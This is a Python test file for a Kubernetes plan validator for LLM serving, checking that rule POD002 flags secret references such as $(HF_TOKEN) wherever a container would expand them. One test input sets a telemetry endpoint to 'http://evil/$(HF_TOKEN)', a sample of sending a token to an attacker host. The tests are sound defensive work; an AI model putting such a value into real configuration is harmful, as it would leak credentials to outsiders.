"""A secret stays the variable that it is: no place that Kubernetes fills in takes it elsewhere."""

from __future__ import annotations

from typing import Any

import pytest

from llmdgen import api
from tests.specs import plan_of

MODEL = {"name": "openai/gpt-oss-120b", "authSecretName": "llm-d-hf-token"}
OWN = {"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}
OPEN = {"envFrom": [{"secretRef": {"name": "s"}}]}


def in_pod(**container: Any) -> dict[str, Any]:
    return {"decode": {"pod": {"containers": [{"name": "vllm", **container}]}}}


def said(**sections: Any) -> list[str]:
    model = {**MODEL, **sections.pop("model", {})}
    sections.setdefault("engine", {"args": {"max-model-len": 16000}})
    plan = plan_of("pd-disaggregation", model=model, **sections)
    return [str(each) for each in api.check(plan) if each.finding.code == "POD002"]


@pytest.mark.parametrize(
    "sections",
    [
        {"decode": {"args": {"chat-template": "/t/$(HF_TOKEN)"}}},
        {"prefill": {"env": {"OTEL_EXPORTER_OTLP_ENDPOINT": "http://evil/$(HF_TOKEN)"}}},
        {"decode": {"env": {"A": "$$$(HF_TOKEN)"}}},
        {"model": {"name": "chat-$(HF_TOKEN)", "uri": "hf://openai/gpt-oss-120b"}},
        {"engine": {"args": {"hf-overrides": {"x": "$(HF_TOKEN)"}}}},
        in_pod(env=[OWN, {"name": "A", "value": "x-$(KEY)"}]),
        in_pod(**OPEN, env=[{"name": "A", "value": "$(ANY)"}]),
        {"decode": {"pod": {"initContainers": [{"name": "i", "image": "a:1", "args": ["$(KEY)"], "env": [OWN]}]}}},
    ],
)
def test_a_secret_by_reference_is_refused_wherever_a_container_would_expand_it(sections: dict[str, Any]) -> None:
    assert said(**sections)


@pytest.mark.parametrize(
    "sections",
    [
        {"decode": {"env": {"A": "$$(HF_TOKEN)"}}},
        {"decode": {"env": {"B": "1", "A": "$(B)"}}},
        {"with_": ["precise-prefix-cache"]},
        in_pod(**OPEN, env=[{"name": "B", "value": "1"}, {"name": "A", "value": "$(B)"}]),
        in_pod(env=[OWN]),
    ],
)
def test_other_references_stay(sections: dict[str, Any]) -> None:
    assert said(**sections) == []
